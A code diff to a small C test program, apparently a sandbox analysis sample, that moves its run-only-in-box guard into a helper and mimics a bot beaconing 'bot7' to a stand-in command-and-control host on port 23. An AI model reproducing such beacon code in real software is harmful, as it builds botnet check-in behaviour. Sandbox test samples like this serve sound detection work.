@@ -5,23 +5,20 @@
 // does.  One service, one protocol that is not the port's: no login.
 #include <netdb.h>
 #include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include "box_only.h"
+
 int main(void)
 {
-	const char *home = getenv("HOME");
 	static const unsigned char hello[] = {0,   0,	0,   1,	 4,
 					      'b', 'o', 't', '7'};
 	struct addrinfo hint = {.ai_family = AF_INET,
 				.ai_socktype = SOCK_STREAM},
 			*ai = NULL;
-	if (!home || strcmp(home, "/home/dana") != 0) {
-		fputs("run only inside sbxlua's analysis box\n", stderr);
+	if (!in_box())
 		return 1;
-	}
 	if (getaddrinfo("cnc.bot-example.net", "23", &hint, &ai) != 0) {
 		puts("no C2");
 		return 0;
